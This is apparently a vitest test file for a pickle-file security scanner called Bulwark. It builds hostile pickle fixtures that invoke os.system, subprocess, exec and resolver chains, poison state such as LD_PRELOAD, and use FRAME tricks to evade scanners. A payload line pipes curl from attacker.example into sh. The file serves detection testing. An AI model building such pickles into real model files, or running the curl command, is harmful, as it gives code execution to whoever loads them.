/**
 * Named hostile fixtures: each published trick against pickle scanners, built opcode by opcode, and
 * the findings Bulwark must give.
 */
import { describe, expect, test } from 'vitest';
import type { PickleBuilder} from '../../../test-fixtures/pickle-builder.js';
import { dictOf, pickle, tuple } from '../../../test-fixtures/pickle-builder.js';
import { scanBytes } from './test-utils.js';

const PAYLOAD = 'curl -s http://attacker.example/x.sh | sh';

function expectCall(bytes: Uint8Array, matched: string, evidence?: RegExp | string): void {
  const r = scanBytes(bytes);
  const calls = r.of('pickle/dangerous-call');
  expect(calls.map((f) => f.message).join('\n')).toContain(matched);
  const f = calls.find((x) => x.message.includes(matched));
  expect(f?.severity).toBe('critical');
  if (evidence !== undefined) expect(f?.evidence).toMatch(evidence);
}

describe('direct imports and calls', () => {
  test('GLOBAL os.system + REDUCE (protocol 2)', () => {
    const bytes = pickle((b) => b.proto(2).call('os', 'system', PAYLOAD).stop());
    const r = scanBytes(bytes);
    expect(r.ruleIds).toEqual(['pickle/dangerous-call']);
    const f = r.of('pickle/dangerous-call')[0];
    expect(f?.evidence).toBe(`os.system("${PAYLOAD}")`);
    // located at the REDUCE opcode (the last opcode before STOP)
    expect(f?.location).toEqual({ kind: 'byte-range', path: 'model.pkl', offset: bytes.length - 2, length: 0 });
    expect(r.partial).toBe(false);
  });

  test('protocol 0 text pickle', () => {
    expectCall(pickle((b) => b.global('os', 'system').mark().string(`'${PAYLOAD}'`).tuple().reduce().stop()), 'os.system');
  });

  test('INST opcode (import + call in one)', () => {
    expectCall(pickle((b) => b.mark().string("'id'").inst('os', 'system').stop()), 'os.system', 'os.system("id")');
  });

  test('OBJ opcode', () => {
    expectCall(pickle((b) => b.mark().global('subprocess', 'check_output').mark().str('id', 2).list().obj().stop()), 'subprocess.check_output');
  });

  test('NEWOBJ of subprocess.Popen', () => {
    expectCall(pickle((b) => b.proto(2).global('subprocess', 'Popen').value(tuple(['sh', '-c', 'id'])).newObj().stop()), 'subprocess.Popen');
  });

  test('NEWOBJ_EX with keyword arguments', () => {
    const bytes = pickle((b) => b.proto(4).stackGlobal('subprocess', 'run').value(tuple('id')).value(dictOf(['shell', true])).newObjEx().stop());
    expectCall(bytes, 'subprocess.run', 'subprocess.run("id", shell=True)');
  });

  test('posix.system and nt.system (os under its platform name)', () => {
    expectCall(pickle((b) => b.proto(2).call('posix', 'system', 'id').stop()), 'posix.system');
    expectCall(pickle((b) => b.proto(2).call('nt', 'system', 'id').stop()), 'nt.system');
  });

  test('builtins.exec / eval / compile, runpy, pty, ctypes, marshal, types.CodeType', () => {
    for (const [m, n] of [
      ['builtins', 'exec'],
      ['builtins', 'eval'],
      ['builtins', 'compile'],
      ['runpy', '_run_code'],
      ['pty', 'spawn'],
      ['ctypes', 'CDLL'],
      ['marshal', 'loads'],
      ['types', 'CodeType'],
      ['torch.hub', 'load'],
      ['numpy.testing._private.utils', 'runstring'],
      ['asyncio.subprocess', 'create_subprocess_shell'],
      ['distutils.spawn', 'spawn'],
      ['pip._internal', 'main'],
      ['torch.fx.graph_module', 'reduce_graph_module'],
    ] as const) {
      expectCall(pickle((b) => b.proto(2).call(m, n, 'x').stop()), `${m}.${n}`);
    }
  });
});

describe('name tricks', () => {
  test('dotted STACK_GLOBAL name reaches os.system through posixpath (protocol 4)', () => {
    const bytes = pickle((b) => b.proto(4).stackGlobal('posixpath', 'os.system').value(tuple(PAYLOAD)).reduce().stop());
    expectCall(bytes, 'os.system', /posixpath\.os\.system/);
  });

  test('dotted name through an innocent module: torch.serialization.os.system', () => {
    expectCall(pickle((b) => b.proto(4).stackGlobal('torch.serialization', 'os.system').value(tuple('id')).reduce().stop()), 'os.system');
  });

  test('Python 2 names that find_class maps: __builtin__.eval, commands.getoutput, cPickle.loads', () => {
    const r = scanBytes(pickle((b) => b.global('__builtin__', 'eval').mark().string("'1'").tuple().reduce().stop()));
    expect(r.of('pickle/dangerous-call')[0]?.message).toMatch(/builtins\.eval \(written __builtin__\.eval\)/);
    expectCall(pickle((b) => b.global('commands', 'getoutput').mark().string("'id'").tuple().reduce().stop()), 'subprocess.getoutput');
    expectCall(pickle((b) => b.proto(2).call('cPickle', 'loads', 'x').stop()), 'pickle.loads');
  });

  test('dunder traversal in a dotted name (__globals__, __builtins__)', () => {
    const bytes = pickle((b) => b.proto(4).stackGlobal('torch.nn', 'Module.__init__.__globals__').stop());
    const r = scanBytes(bytes);
    const f = r.of('pickle/dangerous-global')[0];
    expect(f?.severity).toBe('high');
    expect(f?.message).toMatch(/__init__|__globals__/);
  });

  test('strings built in one place, used in another (memo indirection, every width)', () => {
    const byBinPut = pickle((b) =>
      b.proto(4).str('os').binPut(0).pop().str('system').longBinPut(70000).pop().binGet(0).longBinGet(70000).stackGlobal().value(tuple('id')).reduce().stop(),
    );
    expectCall(byBinPut, 'os.system');
    const byMemoize = pickle((b) => b.proto(4).str('subprocess').memoize().pop().str('call').memoize().pop().binGet(0).binGet(1).stackGlobal().value(tuple('id')).reduce().stop());
    expectCall(byMemoize, 'subprocess.call');
    const byPut = pickle((b) => b.global('os', 'system').put(7).pop().get(7).mark().string("'id'").tuple().reduce().stop());
    expectCall(byPut, 'os.system');
  });

  test('PROTO changing mid-stream does not hide a protocol-2 Python 2 name', () => {
    expectCall(pickle((b) => b.proto(4).proto(2).global('__builtin__', 'exec').value(tuple('x'), 2).reduce().stop()), 'builtins.exec');
  });

  test('STACK_GLOBAL of strings computed at load time (operator.add) is resolved', () => {
    const bytes = pickle((b) =>
      b.proto(4).stackGlobal('operator', 'add').value(tuple('o', 's')).reduce().stackGlobal('operator', 'add').value(tuple('sys', 'tem')).reduce().stackGlobal().value(tuple('id')).reduce().stop(),
    );
    expectCall(bytes, 'os.system');
  });

  test('STACK_GLOBAL of values that cannot be known (an out-of-band buffer)', () => {
    const r = scanBytes(pickle((b) => b.proto(5).str('os').nextBuffer().stackGlobal().value(tuple('id')).reduce().stop()));
    const f = r.of('pickle/unresolved-call')[0];
    expect(f?.severity).toBe('critical');
  });
});

describe('resolver chains built from innocent-looking callables', () => {
  const osModule = (b: PickleBuilder): PickleBuilder => b.stackGlobal('importlib', 'import_module').value(tuple('os')).reduce();

  test('getattr(importlib.import_module("os"), "system")("id")', () => {
    const bytes = pickle((b) => {
      b.proto(4).stackGlobal('builtins', 'getattr');
      osModule(b).str('system').tuple2().reduce().value(tuple('id')).reduce().stop();
    });
    const r = scanBytes(bytes);
    const f = r.of('pickle/dangerous-call').find((x) => x.message.includes('os.system'));
    expect(f?.evidence).toBe('builtins.getattr(importlib.import_module("os"), "system")("id") \u21d2 os.system("id")');
    expect(f?.severity).toBe('critical');
    // The import by name is reported on its own (high): it runs the module's top-level code.
    expect(r.of('pickle/dangerous-call').some((x) => x.message.includes('to import the module os'))).toBe(true);
  });

  test('inspect.getattr_static(...) and builtins.__import__("os")', () => {
    const bytes = pickle((b) => {
      b.proto(4).stackGlobal('inspect', 'getattr_static');
      osModule(b).str('system').tuple2().reduce().value(tuple('id')).reduce().stop();
    });
    expectCall(bytes, 'os.system');
    const viaImport = pickle((b) =>
      b.proto(4).stackGlobal('builtins', 'getattr').stackGlobal('builtins', '__import__').value(tuple('os')).reduce().str('system').tuple2().reduce().value(tuple('id')).reduce().stop(),
    );
    expectCall(viaImport, 'os.system');
    // __import__("os.path") without a fromlist returns the top package, os
    const dotted = pickle((b) =>
      b.proto(4).stackGlobal('builtins', 'getattr').stackGlobal('builtins', '__import__').value(tuple('os.path')).reduce().str('popen').tuple2().reduce().value(tuple('id')).reduce().stop(),
    );
    expectCall(dotted, 'os.popen');
  });

  test('vars(module) + dict.get, operator.getitem and a bound .get', () => {
    const viaDictGet = pickle((b) => {
      b.proto(4).stackGlobal('builtins', 'dict.get').stackGlobal('builtins', 'vars');
      osModule(b).tuple1().reduce().str('system').tuple2().reduce().value(tuple('id')).reduce().stop();
    });
    expectCall(viaDictGet, 'os.system');
    const viaGetitem = pickle((b) => {
      b.proto(4).stackGlobal('operator', 'getitem').stackGlobal('builtins', 'vars');
      osModule(b).tuple1().reduce().str('popen').tuple2().reduce().value(tuple('id')).reduce().stop();
    });
    expectCall(viaGetitem, 'os.popen');
    const viaBound = pickle((b) => {
      b.proto(4).stackGlobal('builtins', 'getattr').stackGlobal('builtins', 'vars');
      osModule(b).tuple1().reduce().str('get').tuple2().reduce().value(tuple('system')).reduce().value(tuple('id')).reduce().stop();
    });
    expectCall(viaBound, 'os.system');
  });

  test('sys.modules["os"].system via a bound get', () => {
    const bytes = pickle((b) =>
      b
        .proto(4)
        .stackGlobal('builtins', 'getattr')
        .stackGlobal('builtins', 'getattr')
        .stackGlobal('sys', 'modules')
        .str('get')
        .tuple2()
        .reduce()
        .value(tuple('os'))
        .reduce()
        .str('system')
        .tuple2()
        .reduce()
        .value(tuple('id'))
        .reduce()
        .stop(),
    );
    expectCall(bytes, 'os.system');
  });

  test('operator.attrgetter and operator.methodcaller', () => {
    const attr = pickle((b) => {
      b.proto(4).stackGlobal('operator', 'attrgetter').value(tuple('system')).reduce();
      osModule(b).tuple1().reduce().value(tuple('id')).reduce().stop();
    });
    expectCall(attr, 'os.system');
    const method = pickle((b) => {
      b.proto(4).stackGlobal('operator', 'methodcaller').value(tuple('system', 'id')).reduce();
      osModule(b).tuple1().reduce().stop();
    });
    expectCall(method, 'os.system');
  });

  test('functools.partial(os.system, "id")() and partial of partial', () => {
    const p1 = pickle((b) => b.proto(4).stackGlobal('functools', 'partial').stackGlobal('os', 'system').str('id').tuple2().reduce().emptyTuple().reduce().stop());
    expectCall(p1, 'os.system', /\u21d2 os\.system\("id"\)/);
    const p2 = pickle((b) =>
      b.proto(4).stackGlobal('functools', 'partial').stackGlobal('functools', 'partial').stackGlobal('os', 'system').tuple1().reduce().str('id').tuple2().reduce().emptyTuple().reduce().stop(),
    );
    expectCall(p2, 'os.system');
  });

  test('a partial that is only stored (a hook the model code may call) is still reported', () => {
    const r = scanBytes(pickle((b) => b.proto(4).emptyDict().str('hook').stackGlobal('functools', 'partial').stackGlobal('os', 'system').str('id').tuple2().reduce().setItem().stop()));
    expect(r.of('pickle/dangerous-global').map((f) => f.evidence)).toContain('os.system');
  });

  test('copyreg extension registration followed by EXT codes', () => {
    const bytes = pickle((b) =>
      b.proto(2).call('copyreg', 'add_extension', 'os', 'system', 0x42).pop().ext1(0x42).value(tuple('id'), 2).reduce().stop(),
    );
    const r = scanBytes(bytes);
    expect(r.of('pickle/dangerous-call').map((f) => f.message).join('\n')).toMatch(/os\.system/);
    expect(r.of('pickle/unresolved-extension')).toHaveLength(0);
  });

  test('an EXT code the stream does not register is reported; calling it is unresolved', () => {
    const r = scanBytes(pickle((b) => b.proto(2).ext2(999).value(tuple('id'), 2).reduce().stop()));
    expect(r.of('pickle/unresolved-extension')[0]?.severity).toBe('medium');
    expect(r.of('pickle/unresolved-call')[0]?.severity).toBe('high');
  });

  test('apply / map / reduce call the callable they are given', () => {
    expectCall(pickle((b) => b.proto(2).global('__builtin__', 'apply').global('os', 'system').value(tuple('id'), 2).tuple2().reduce().stop()), 'os.system');
    expectCall(pickle((b) => b.proto(4).stackGlobal('builtins', 'map').stackGlobal('os', 'system').value(['id']).tuple2().reduce().stop()), 'os.system');
  });

  test('getattr with a computed attribute name on a denied module is critical', () => {
    const r = scanBytes(pickle((b) => b.proto(5).stackGlobal('builtins', 'getattr').stackGlobal('os', '').nextBuffer().tuple2().reduce().value(tuple('id')).reduce().stop()));
    expect(r.of('pickle/unresolved-call')[0]?.severity).toBe('critical');
  });
});

describe('state poisoning', () => {
  test('BUILD on a function overwrites its attributes (slot state → setattr)', () => {
    const r = scanBytes(pickle((b) => b.proto(2).global('torch._utils', '_rebuild_tensor_v2').none().value(dictOf(['__defaults__', tuple(1)]), 2).tuple2().buildOp().stop()));
    const f = r.of('pickle/state-poisoning')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.evidence).toMatch(/torch\._utils\._rebuild_tensor_v2/);
  });

  test('BUILD on a module replaces its functions', () => {
    const r = scanBytes(pickle((b) => b.proto(4).stackGlobal('importlib', 'import_module').value(tuple('torch')).reduce().value(dictOf(['load', 1])).buildOp().stop()));
    expect(r.of('pickle/state-poisoning')[0]?.evidence).toBe('torch.__dict__.update({"load": 1})');
  });

  test('SETITEM on os.environ, APPEND on sys.path, SETITEMS on sys.modules', () => {
    const env = scanBytes(pickle((b) => b.proto(2).global('os', 'environ').str('LD_PRELOAD', 2).str('/tmp/x.so', 2).setItem().stop()));
    expect(env.of('pickle/state-poisoning')[0]?.evidence).toBe('os.environ["LD_PRELOAD"] = "/tmp/x.so"');
    const path = scanBytes(pickle((b) => b.proto(2).global('sys', 'path').str('/tmp/evil', 2).append().stop()));
    expect(path.of('pickle/state-poisoning')[0]?.evidence).toBe('sys.path.append("/tmp/evil")');
    const mods = scanBytes(pickle((b) => b.proto(2).global('sys', 'modules').mark().str('torch', 2).none().setItems().stop()));
    expect(mods.of('pickle/state-poisoning')).toHaveLength(1);
  });

  test('BUILD on an object the pickle created is normal', () => {
    const r = scanBytes(pickle((b) => b.proto(2).global('collections', 'OrderedDict').emptyTuple().reduce().emptyDict().buildOp().stop()));
    expect(r.findings).toEqual([]);
  });
});

describe('stream structure', () => {
  const benign = (): Uint8Array => pickle((b) => b.proto(2).call('collections', 'OrderedDict').stop());
  const evil = (): Uint8Array => pickle((b) => b.proto(2).call('os', 'system', 'id').stop());
  const cat = (...parts: Uint8Array[]): Uint8Array => {
    const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
    let o = 0;
    for (const p of parts) {
      out.set(p, o);
      o += p.length;
    }
    return out;
  };

  test('several pickles back to back: the second one is analysed', () => {
    const r = scanBytes(cat(benign(), evil()));
    expect(r.analysis.stops).toBe(2);
    expect(r.of('pickle/dangerous-call')[0]?.location).toMatchObject({ offset: benign().length + evil().length - 2 });
    expect(r.of('pickle/trailing-data')).toHaveLength(0);
  });

  test('single: true stops after the first STOP and says where', () => {
    const r = scanBytes(cat(benign(), evil()), { scan: { single: true } });
    expect(r.analysis.stops).toBe(1);
    expect(r.analysis.endOffset).toBe(benign().length);
    expect(r.findings).toEqual([]);
  });

  test('offset: starts where a container says', () => {
    const r = scanBytes(cat(benign(), evil()), { scan: { offset: benign().length, single: true } });
    expect(r.of('pickle/dangerous-call')).toHaveLength(1);
  });

  test('bytes after STOP that are not a pickle', () => {
    const r = scanBytes(cat(benign(), new TextEncoder().encode('#!/bin/sh\ncurl x | sh\n')));
    expect(r.of('pickle/trailing-data')[0]?.severity).toBe('medium');
    expect(r.partial).toBe(false);
  });

  test('a stream that breaks right after its payload: both are reported, target partial', () => {
    const bytes = pickle((b) => b.proto(2).call('os', 'system', PAYLOAD).raw([0x00, 0x01]));
    const r = scanBytes(bytes);
    expect(r.ruleIds).toEqual(['pickle/dangerous-call', 'pickle/malformed-after-payload', 'scan/malformed-input']);
    expect(r.partial).toBe(true);
    expect(r.analysis.complete).toBe(false);
  });

  test('a truncated benign stream is malformed, without malformed-after-payload', () => {
    const r = scanBytes(benign().subarray(0, 10));
    expect(r.ruleIds).toEqual(['scan/malformed-input']);
    expect(r.partial).toBe(true);
  });
});

describe('FRAME disagreements (C unpickler vs pickle.py vs pickletools)', () => {
  test('an opcode that crosses the frame end', () => {
    const bytes = pickle((b) => b.proto(4).frame(3).str('os').str('system').stackGlobal().value(tuple('id')).reduce().stop());
    const r = scanBytes(bytes);
    expect(r.of('pickle/frame-mismatch')[0]?.message).toMatch(/crosses the end of its FRAME/);
    expect(r.of('pickle/dangerous-call')).toHaveLength(1);
  });

  test('a frame longer than the data: the C unpickler stops, pickle.py runs the payload', () => {
    const body = pickle((b) => b.stackGlobal('os', 'system').value(tuple('id')).reduce().stop());
    const bytes = pickle((b) => b.proto(4).frame(body.length + 1000).raw(body));
    const r = scanBytes(bytes);
    expect(r.of('pickle/frame-mismatch')[0]?.message).toMatch(/only \d+ follow/);
    expect(r.of('pickle/dangerous-call')).toHaveLength(1);
  });

  test('a frame that starts inside another', () => {
    const bytes = pickle((b) => b.proto(4).frame(30).none().pop().frame(5).stackGlobal('os', 'system').value(tuple('id')).reduce().stop());
    const r = scanBytes(bytes);
    expect(r.of('pickle/frame-mismatch').some((f) => /starts before the previous frame ends/.test(f.message))).toBe(true);
    expect(r.of('pickle/dangerous-call')).toHaveLength(1);
  });

  test('STOP inside a frame: pickle.py starts the next load() at the frame end, where a payload hides', () => {
    const hidden = pickle((b) => b.proto(2).call('os', 'system', 'id').stop());
    const decoy = pickle((b) => b.proto(2).none().stop()); // what the C reading sees after STOP
    const bytes = pickle((b) => b.proto(4).frame(2 + decoy.length).none().stop().raw(decoy).raw(hidden));
    const r = scanBytes(bytes);
    expect(r.of('pickle/frame-mismatch')[0]?.message).toMatch(/STOP at offset/);
    expect(r.of('pickle/dangerous-call')).toHaveLength(1);
  });

  test('a well-formed framed stream gives no finding', () => {
    const bytes = pickle((b) => b.proto(4).framed((f) => f.stackGlobal('collections', 'OrderedDict').emptyTuple().reduce().stop()));
    expect(scanBytes(bytes).findings).toEqual([]);
  });
});

describe('nested pickles', () => {
  const inner = pickle((b) => b.proto(2).call('os', 'system', 'id').stop());

  test('pickle.loads(bytes) is decoded and scanned', () => {
    const r = scanBytes(pickle((b) => b.proto(3).global('pickle', 'loads').binBytes(inner).tuple1().reduce().stop()));
    expect(r.of('pickle/nested-pickle')[0]?.severity).toBe('medium');
    const f = r.of('pickle/dangerous-call')[0];
    expect(f?.location).toMatchObject({ kind: 'archive-member', member: expect.stringMatching(/^pickle\.loads@\d+$/) });
  });

  test('_pickle.loads of bytes built by _codecs.encode (protocol 2 bytes)', () => {
    const latin1 = Array.from(inner, (c) => String.fromCharCode(c)).join('');
    const bytes = pickle((b) => b.proto(2).global('_pickle', 'loads').global('_codecs', 'encode').binUnicode(latin1).binUnicode('latin1').tuple2().reduce().tuple1().reduce().stop());
    expect(scanBytes(bytes).of('pickle/dangerous-call')).toHaveLength(1);
  });

  test('pickle.loads(base64.b64decode("..."))', () => {
    const b64 = Buffer.from(inner).toString('base64');
    const bytes = pickle((b) => b.proto(2).global('pickle', 'loads').call('base64', 'b64decode', b64).tuple1().reduce().stop());
    expect(scanBytes(bytes).of('pickle/dangerous-call')).toHaveLength(1);
  });

  test('a large nested pickle (lazy BINBYTES reference, scanned through a slice)', () => {
    const big = pickle((b) => b.proto(4).binBytes(new Uint8Array(20000)).pop().stackGlobal('os', 'system').value(tuple('id')).reduce().stop());
    const r = scanBytes(pickle((b) => b.proto(4).stackGlobal('pickle', 'loads').binBytes(big).tuple1().reduce().stop()));
    expect(r.of('pickle/dangerous-call')).toHaveLength(1);
  });

  test('torch.storage._load_from_bytes with a benign stream is informational', () => {
    const benign = pickle((b) => b.proto(2).none().stop());
    const r = scanBytes(pickle((b) => b.proto(3).global('torch.storage', '_load_from_bytes').binBytes(benign).tuple1().reduce().stop()));
    expect(r.findings.map((f) => [f.ruleId, f.severity])).toEqual([['pickle/nested-pickle', 'info']]);
  });

  test('pickle.loads of bytes that are not statically known is critical', () => {
    const r = scanBytes(pickle((b) => b.proto(5).global('pickle', 'loads').nextBuffer().tuple1().reduce().stop()));
    expect(r.of('pickle/dangerous-call')[0]?.severity).toBe('critical');
  });

  test('nesting deeper than maxNestingDepth is a limit finding', () => {
    let bytes = inner;
    for (let i = 0; i < 4; i++) {
      const cur = bytes;
      bytes = pickle((b) => b.proto(3).global('pickle', 'loads').binBytes(cur).tuple1().reduce().stop());
    }
    const r = scanBytes(bytes, { limits: { maxNestingDepth: 2 } });
    expect(r.of('scan/limit-exceeded')[0]?.evidence).toBe('maxNestingDepth');
    expect(r.partial).toBe(true);
  });
});

describe('persistent ids', () => {
  test('PyTorch storage ids are recorded with their storage key, not treated as calls', () => {
    const bytes = pickle((b) =>
      b.proto(2).global('torch._utils', '_rebuild_tensor_v2').mark().mark().str('storage', 2).global('torch', 'FloatStorage').str('0', 2).str('cpu', 2).binInt1(4).tuple().binPersId().binInt1(0).value(tuple(2, 2), 2).value(tuple(2, 1), 2).newFalse().global('collections', 'OrderedDict').emptyTuple().reduce().tuple().reduce().stop(),
    );
    const r = scanBytes(bytes);
    expect(r.findings).toEqual([]);
    expect(r.analysis.persistentIds).toHaveLength(1);
    expect(r.analysis.persistentIds[0]?.storageKey).toBe('0');
    expect(r.analysis.persistentIds[0]?.text).toBe('("storage", torch.FloatStorage, "0", "cpu", 4)');
  });

  test('calling the object a persistent id returns is unresolved', () => {
    const r = scanBytes(pickle((b) => b.proto(2).str('x', 2).binPersId().emptyTuple().reduce().stop()));
    expect(r.of('pickle/unresolved-call')).toHaveLength(1);
  });
});

describe('library helpers that resolve names', () => {
  test('numpy.core._ufunc_reconstruct("os", "system") resolves to os.system', () => {
    const bytes = pickle((b) => b.proto(2).global('numpy.core', '_ufunc_reconstruct').value(tuple('os', 'system'), 2).reduce().value(tuple('id'), 2).reduce().stop());
    expectCall(bytes, 'os.system', /\u21d2 os\.system\("id"\)/);
  });

  test('numpy.core._ufunc_reconstruct("numpy", "log1p") (a real ufunc pickle) is fine', () => {
    const r = scanBytes(pickle((b) => b.proto(2).global('numpy.core', '_ufunc_reconstruct').value(tuple('numpy', 'log1p'), 2).reduce().stop()));
    expect(r.findings).toEqual([]);
  });
});
